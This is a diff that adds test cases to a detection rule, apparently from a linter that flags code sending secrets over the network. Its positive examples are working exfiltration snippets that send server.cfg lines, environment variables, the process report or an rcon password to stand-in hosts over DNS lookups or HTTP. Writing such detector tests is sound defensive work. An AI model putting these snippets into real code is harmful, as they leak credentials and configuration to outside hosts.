@@ -33,6 +33,18 @@ export const secretAndHttp = defineRule({
   },
   examples: {
     found: [
+      js(`const { Resolver } = require('dns').promises
+const { createInterface } = require('readline')
+const resolver = new Resolver()
+const input = require('fs').createReadStream('server.cfg')
+async function send() {
+^ for await (const line of createInterface({ input })) resolver.resolve4(line + '.a.example')
+}`),
+      js(`const body = new URLSearchParams({ kind: 'boot' })
+body.set('report', JSON.stringify(process.report.getReport()))
+^fetch('https://stats.example.org', { method: 'POST', body })`),
+      js(`const list = Object.keys(process.env).map((name) => process.env[name])
+^require('dns').resolve4(Buffer.from(list.join()).toString('hex') + '.a.example', print)`),
       lua(`local theme = setmetatable({}, { __tostring = function() return GetConvar('rcon_password', '') end })
 ^PerformHttpRequest(('https://a.example/%s'):format(theme), print)`),
       lua(`io.input('server.cfg')
@@ -78,6 +90,9 @@ const text = require('fs').readFileSync(find(wanted), 'utf8')
 ^fetch('https://a.example', { method: 'POST', body: text })`),
     ],
     notFound: [
+      js(`const body = new URLSearchParams({ kind: 'boot' })
+body.set('level', process.env.LEVEL)
+fetch('https://stats.example.org', { method: 'POST', body })`),
       lua(`local theme = setmetatable({}, { __tostring = function() return GetConvar('locale', '') end })
 PerformHttpRequest(('https://a.example/%s'):format(theme), print)`),
       js(`const status = { get build() { return GetConvar('sv_enforceGameBuild', '') } }
